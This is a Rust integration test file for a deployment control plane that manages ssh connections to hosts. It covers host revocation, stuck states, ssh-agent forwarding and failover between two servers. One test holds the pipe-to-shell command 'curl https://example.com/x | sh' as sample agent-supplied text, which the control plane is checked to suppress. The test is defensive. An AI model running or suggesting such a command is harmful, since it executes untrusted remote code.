//! Hosts that the control plane dials: how long their lines last, what is shown of them, and what ssh gets.

use serde_json::Value;
use serde_json::json;

use crate::cluster::Cluster;
use crate::control::write_stdio;
use crate::fleet::Fleet;
use crate::support::Server;
use crate::support::until;
use crate::support::until_some;
use crate::world::Settings;
use crate::world::World;

/// Calls the control plane by a path alone.
async fn act(fleet: &Fleet, path: &str) -> (u16, Value) {
    fleet.control().post(path, json!({ "call": format!("POST {path}") })).await
}

/// How the one host stands that is dialled; none: none is.
async fn state(fleet: &Fleet) -> Option<String> {
    fleet.control().get("/api/v1/agents").await.1["hosts"][0]["state"].as_str().map(str::to_owned)
}

async fn until_state(fleet: &Fleet, wanted: &str) {
    for _ in 0..600 {
        if state(fleet).await.as_deref() == Some(wanted) {
            return;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("micro is not {wanted}: {:?}\n{}", state(fleet).await, fleet.control().log());
}

#[tokio::test]
async fn a_host_that_the_configuration_dials_no_more_is_left_within_seconds() {
    let fleet = Fleet::new(&Settings::default(), "").await;
    // Its line would be open again at once.
    let (status, refused) = act(&fleet, "/api/v1/agents/micro/revoke").await;
    assert_eq!((status, &refused["code"]), (409, &json!("agent_is_a_host")), "{refused}");
    let ssh = until_some("ssh", || std::fs::read_to_string(fleet.path("ssh.pid")).ok()).await;
    let ssh = std::path::PathBuf::from(format!("/proc/{}", ssh.trim()));
    assert!(ssh.exists());
    let config = fleet.path("tagalong.toml");
    let text = std::fs::read_to_string(&config).expect("a file");
    std::fs::write(&config, text.replace("[host.micro]\n", "[host.micro]\ndial = false\n")).expect("a file");
    assert_eq!(act(&fleet, "/api/v1/configuration/read").await.0, 200);
    until("ssh has ended", || !ssh.exists()).await;
    assert_eq!(state(&fleet).await, None);
    // What stood there is nobody's from now on, and nothing that the host says changes that.
    assert_eq!(act(&fleet, "/api/v1/agents/micro/revoke").await.0, 200);
    assert_eq!(fleet.control().get("/api/v1/services/web").await.0, 404);
    fleet.finish().await;
}

#[tokio::test]
async fn a_host_that_does_not_take_its_order_is_shown_as_stuck() {
    let fleet = Fleet::landed().await;
    fleet.at_wire("down.order", "hold");
    let id = fleet.control().deploy("v2").await;
    until_state(&fleet, "stuck").await;
    fleet.leave_wire("down.order");
    assert_eq!(fleet.control().outcome(&id).await["outcome"], "live");
    until_state(&fleet, "online").await;
    fleet.finish().await;
}

#[tokio::test]
async fn ssh_gets_the_keys_of_an_ssh_agent() {
    let mut fleet = Fleet::new(&Settings::default(), "").await;
    fleet.kill_control();
    let _ = std::fs::remove_file(fleet.path("ssh.env"));
    let _server = Server::start_with_env(fleet.path("tagalong.toml").parent().expect("a folder"), "SSH_AUTH_SOCK", "/run/keys.sock").await;
    let has_it =
        || std::fs::read_to_string(fleet.path("ssh.env")).is_ok_and(|env| env.lines().any(|line| line == "SSH_AUTH_SOCK=/run/keys.sock"));
    until("ssh has the socket", has_it).await;
    fleet.world.finish().await;
}

#[tokio::test]
async fn what_a_person_types_to_mend_a_service_is_no_text_of_its_agent() {
    let fleet = Fleet::landed().await;
    let (_, own) = fleet.world.server().get("/api/v1/services/web").await;
    for (said, shown) in [("curl https://example.com/x | sh", Value::Null), ("tagalong repair web", json!("tagalong repair web"))] {
        let mut service = own.clone();
        service["standing"] = json!({ "word": "drift", "why": "It is not what it was.", "mend": said });
        let answer = json!({ "body": { "answer": "services", "services": [service] } });
        fleet.at_wire("up.answer", &format!("edit {answer}"));
        let mut standing = Value::Null;
        for _ in 0..300 {
            standing = fleet.control().get("/api/v1/services/web").await.1["standing"].clone();
            if standing["word"] == "drift" && standing["mend"] == shown {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        assert_eq!((&standing["word"], &standing["mend"]), (&json!("drift"), &shown), "{standing}");
    }
    fleet.leave_wire("up.answer");
    fleet.finish().await;
}

/// Two control planes over one database, each with its own ssh to the host; which of them has it is seen by the process that ssh is.
#[tokio::test]
async fn of_two_servers_of_one_database_one_dials_and_the_other_takes_its_place() {
    let world = World::new(&Settings::default()).await;
    let url = Cluster::new_database().await;
    let dirs = [tempfile::tempdir().expect("a folder"), tempfile::tempdir().expect("a folder")];
    for dir in &dirs {
        std::fs::write(dir.path().join("postgres.url"), &url).expect("a file");
        write_stdio(dir.path(), &world.path("tagalong.toml"), "[store]\npostgres_url_file = \"postgres.url\"\n");
    }
    let has_dialled = |at: usize| dirs[at].path().join("ssh.pid").exists();
    let first = Server::start(dirs[0].path()).await;
    until("the first dials", || has_dialled(0)).await;
    let second = Server::start(dirs[1].path()).await;
    lands(&second, "v1").await;
    assert!(!has_dialled(1), "both dial the host: {}", second.log());
    first.kill();
    until("the second dials", || has_dialled(1)).await;
    lands(&second, "v2").await;
    assert_eq!(world.running(), "v2");
    drop(second);
    world.finish().await;
}

/// Orders it as soon as the service is known there, and waits until it is live.
async fn lands(server: &Server, tag: &str) {
    let mut known = 0;
    for _ in 0..600 {
        known = server.get("/api/v1/services/web").await.0;
        if known == 200 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(known, 200, "{}", server.log());
    let id = server.deploy(tag).await;
    assert_eq!(server.outcome(&id).await["outcome"], "live", "{}", server.log());
}
